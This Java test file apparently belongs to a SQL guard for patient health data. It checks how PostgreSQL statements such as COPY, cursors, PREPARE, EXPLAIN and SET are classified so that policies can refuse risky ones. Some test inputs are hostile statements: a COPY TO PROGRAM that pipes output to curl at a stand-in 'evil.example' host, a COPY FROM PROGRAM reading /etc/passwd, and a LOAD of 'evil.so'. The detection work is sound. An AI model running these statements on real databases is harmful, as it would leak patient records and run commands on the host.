package dev.phiguard.policies.sql;

import static dev.phiguard.policies.sql.Expect.constant;
import static dev.phiguard.policies.sql.Expect.direct;
import static dev.phiguard.policies.sql.Expect.of;
import static dev.phiguard.policies.sql.Expect.unknown;
import static dev.phiguard.policies.sql.Fixtures.PATIENT_COLUMNS;
import static dev.phiguard.policies.sql.Fixtures.star;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Statements recognised from their leading keywords (JSqlParser does not parse most of them): their
 * kind, the object they name, their traits, and the facts of the statement they wrap.
 */
class StatementKindCasesTest {

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("cases")
    void factsMatch(String sql, Expect expected) {
        expected.verify(Fixtures.single(sql));
    }

    private static Arguments c(String sql, Expect expected) {
        return Arguments.of(sql, expected);
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                // COPY: the table's columns or the query's, the target's traits
                c("COPY patients TO STDOUT", of(StatementKind.COPY_TO).reads("patients").withoutWhere("patients")
                        .out(star("patients", PATIENT_COLUMNS)).traits().noInner()),
                c("copy patients (id, ssn) to stdout with (format csv)", of(StatementKind.COPY_TO).reads("patients")
                        .out("id", direct("patients.id")).out("ssn", direct("patients.ssn")).traits()),
                c("COPY (SELECT ssn FROM patients WHERE id < 10) TO STDOUT", of(StatementKind.COPY_TO).reads("patients")
                        .withoutWhere().out("ssn", direct("patients.ssn")).inner(StatementKind.SELECT).traits()),
                c("COPY (SELECT row_to_json(p) FROM patients p) TO STDOUT", of(StatementKind.COPY_TO).reads("patients")
                        .fns("row_to_json").out("row_to_json", Expect.wholeRow("patients")).inner(StatementKind.SELECT)),
                c("COPY patients TO '/tmp/patients.csv'", of(StatementKind.COPY_TO).reads("patients")
                        .out(star("patients", PATIENT_COLUMNS)).traits(StatementTrait.COPY_FILE)),
                c("COPY (SELECT 1) TO PROGRAM 'curl -d @- https://evil.example'", of(StatementKind.COPY_TO)
                        .out("?column?", constant()).traits(StatementTrait.COPY_PROGRAM).inner(StatementKind.SELECT)),
                c("COPY patients TO STDOUT WITH (FORMAT binary)", of(StatementKind.COPY_TO).reads("patients")
                        .out(star("patients", PATIENT_COLUMNS)).traits(StatementTrait.BINARY)),
                c("COPY BINARY patients TO STDOUT", of(StatementKind.COPY_TO).reads("patients")
                        .out(star("patients", PATIENT_COLUMNS)).traits(StatementTrait.BINARY)),
                c("COPY patient_names TO STDOUT", of(StatementKind.COPY_TO).reads("patient_names", "patients")
                        .out(star("patients", "id", "first_name", "last_name"))),
                c("COPY patients FROM STDIN", of(StatementKind.COPY_FROM).writes("patients").traits()),
                c("COPY staff (name) FROM PROGRAM 'cat /etc/passwd'", of(StatementKind.COPY_FROM).writes("staff")
                        .traits(StatementTrait.COPY_PROGRAM)),
                c("COPY audit.events FROM '/tmp/events.csv' WITH (FORMAT csv)", of(StatementKind.COPY_FROM)
                        .writes("audit.events").traits(StatementTrait.COPY_FILE)),
                c("COPY (WITH c AS (SELECT ssn FROM patients) SELECT * FROM c) TO STDOUT", of(StatementKind.COPY_TO)
                        .reads("patients").out("ssn", direct("patients.ssn")).inner(StatementKind.SELECT)),
                c("COPY (DELETE FROM patients RETURNING ssn) TO STDOUT", of(StatementKind.COPY_TO).reads("patients")
                        .writes("patients").out("ssn", direct("patients.ssn")).inner(StatementKind.DELETE)),

                // cursors keep the query's facts; FETCH, MOVE and CLOSE name the cursor
                c("DECLARE c CURSOR FOR SELECT ssn FROM patients", of(StatementKind.DECLARE_CURSOR).reads("patients")
                        .out("ssn", direct("patients.ssn")).object("c").inner(StatementKind.SELECT).traits()),
                c("DECLARE c BINARY SCROLL CURSOR WITH HOLD FOR SELECT * FROM patients LIMIT 5", of(StatementKind.DECLARE_CURSOR)
                        .reads("patients").out(star("patients", PATIENT_COLUMNS)).object("c").limit(5)
                        .traits(StatementTrait.BINARY).inner(StatementKind.SELECT)),
                c("declare \"Cur\" no scroll cursor without hold for select to_jsonb(p) from patients p",
                        of(StatementKind.DECLARE_CURSOR).reads("patients").fns("to_jsonb")
                                .out("to_jsonb", Expect.wholeRow("patients")).object("Cur")),
                c("FETCH 10 FROM c", of(StatementKind.FETCH).object("c")),
                c("FETCH NEXT c", of(StatementKind.FETCH).object("c")),
                c("fetch all in c", of(StatementKind.FETCH).object("c")),
                c("FETCH BACKWARD -2 FROM c", of(StatementKind.FETCH).object("c")),
                c("MOVE BACKWARD 2 IN c", of(StatementKind.MOVE).object("c")),
                c("CLOSE c", of(StatementKind.CLOSE_CURSOR).object("c")),
                c("CLOSE ALL", of(StatementKind.CLOSE_CURSOR).object("all")),

                // server-side prepared statements
                c("PREPARE q(int) AS SELECT ssn FROM patients WHERE id = $1", of(StatementKind.PREPARE).reads("patients")
                        .withoutWhere().out("ssn", direct("patients.ssn")).object("q").inner(StatementKind.SELECT)),
                c("PREPARE u AS UPDATE patients SET notes = $1 WHERE id = $2", of(StatementKind.PREPARE).reads("patients")
                        .writes("patients").object("u").inner(StatementKind.UPDATE)),
                c("EXECUTE q(1)", of(StatementKind.EXECUTE).object("q")),
                c("EXECUTE q", of(StatementKind.EXECUTE).object("q")),
                c("EXECUTE q((SELECT ssn FROM patients LIMIT 1))", of(StatementKind.EXECUTE).reads("patients").object("q").unresolved()),
                c("DEALLOCATE q", of(StatementKind.DEALLOCATE).object("q")),
                c("DEALLOCATE PREPARE ALL", of(StatementKind.DEALLOCATE).object("all")),
                c("PREPARE TRANSACTION 'tx1'", of(StatementKind.OTHER)),

                // EXPLAIN: kind EXPLAIN plus the explained statement; ANALYZE executes it
                c("EXPLAIN SELECT ssn FROM patients", of(StatementKind.EXPLAIN).reads("patients").out("QUERY PLAN", unknown())
                        .traits().inner(StatementKind.SELECT)),
                c("EXPLAIN ANALYZE DELETE FROM patients", of(StatementKind.EXPLAIN).reads("patients").writes("patients")
                        .out("QUERY PLAN", unknown()).traits(StatementTrait.EXPLAIN_ANALYZE).inner(StatementKind.DELETE)),
                c("EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1", of(StatementKind.EXPLAIN).out("QUERY PLAN", unknown())
                        .traits(StatementTrait.EXPLAIN_ANALYZE).inner(StatementKind.SELECT)),
                c("EXPLAIN (ANALYZE false, VERBOSE) SELECT 1", of(StatementKind.EXPLAIN).out("QUERY PLAN", unknown()).traits()),
                c("EXPLAIN ANALYSE VERBOSE SELECT 1", of(StatementKind.EXPLAIN).out("QUERY PLAN", unknown())
                        .traits(StatementTrait.EXPLAIN_ANALYZE)),
                c("EXPLAIN EXECUTE q(1)", of(StatementKind.EXPLAIN).out("QUERY PLAN", unknown()).inner(StatementKind.EXECUTE)),

                // transaction control
                c("BEGIN", of(StatementKind.BEGIN)),
                c("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", of(StatementKind.BEGIN)),
                c("COMMIT", of(StatementKind.COMMIT)),
                c("END", of(StatementKind.COMMIT)),
                c("ROLLBACK", of(StatementKind.ROLLBACK)),
                c("ABORT", of(StatementKind.ROLLBACK)),
                c("ROLLBACK TO SAVEPOINT s1", of(StatementKind.ROLLBACK).object("s1")),
                c("SAVEPOINT s1", of(StatementKind.SAVEPOINT).object("s1")),
                c("RELEASE SAVEPOINT s1", of(StatementKind.SAVEPOINT).object("s1")),
                c("COMMIT PREPARED 'tx1'", of(StatementKind.OTHER)),

                // session parameters: the parameter is the object, so a policy can refuse changing it
                c("SET search_path TO evil, public", of(StatementKind.SET).object("search_path")),
                c("SET LOCAL statement_timeout = 0", of(StatementKind.SET).object("statement_timeout")),
                c("SET standard_conforming_strings = off", of(StatementKind.SET).object("standard_conforming_strings")),
                c("SET ROLE admin", of(StatementKind.SET).object("role")),
                c("SET SESSION AUTHORIZATION 'postgres'", of(StatementKind.SET).object("session_authorization")),
                c("SET TIME ZONE 'UTC'", of(StatementKind.SET).object("timezone")),
                c("SET TRANSACTION READ ONLY", of(StatementKind.SET).object("transaction")),
                c("SET myapp.tenant = '42'", of(StatementKind.SET).object("myapp.tenant")),
                c("SHOW search_path", of(StatementKind.SHOW).object("search_path").out("search_path", constant())),
                c("SHOW ALL", of(StatementKind.SHOW).object("all").out("name", constant()).out("setting", constant())
                        .out("description", constant())),
                c("RESET ALL", of(StatementKind.RESET).object("all")),
                c("RESET role", of(StatementKind.RESET).object("role")),
                c("DISCARD ALL", of(StatementKind.DISCARD).object("all")),

                // notifications
                c("LISTEN revocations", of(StatementKind.LISTEN).object("revocations")),
                c("NOTIFY revocations, 'lease-1'", of(StatementKind.NOTIFY).object("revocations")),
                c("UNLISTEN *", of(StatementKind.UNLISTEN).object("*")),

                // code, procedures, maintenance, privileges
                c("DO $$ BEGIN PERFORM pg_sleep(1); END $$", of(StatementKind.DO).unresolved()),
                c("DO LANGUAGE plpgsql $body$ BEGIN NULL; END $body$", of(StatementKind.DO).unresolved()),
                c("CALL archive_patients(1, 'a')", of(StatementKind.CALL).fns("archive_patients").object("archive_patients")),
                c("CALL archive_patients((SELECT ssn FROM patients LIMIT 1))", of(StatementKind.CALL).reads("patients")
                        .withoutWhere("patients").fns("archive_patients").object("archive_patients")),
                c("VACUUM ANALYZE patients", of(StatementKind.VACUUM_ANALYZE)),
                c("ANALYZE patients (ssn)", of(StatementKind.VACUUM_ANALYZE)),
                c("GRANT SELECT ON patients TO bob", of(StatementKind.GRANT_REVOKE)),
                c("REVOKE ALL ON patients FROM bob", of(StatementKind.GRANT_REVOKE)),
                c("LOCK TABLE patients IN ACCESS EXCLUSIVE MODE", of(StatementKind.LOCK)),
                c("CHECKPOINT", of(StatementKind.OTHER)),
                c("LOAD 'evil.so'", of(StatementKind.OTHER)),
                c("SELECT ssn FROM patients FOR UPDATE", Expect.select().reads("patients").out("ssn", direct("patients.ssn"))
                        .traits(StatementTrait.ROW_LOCKING)));
    }
}
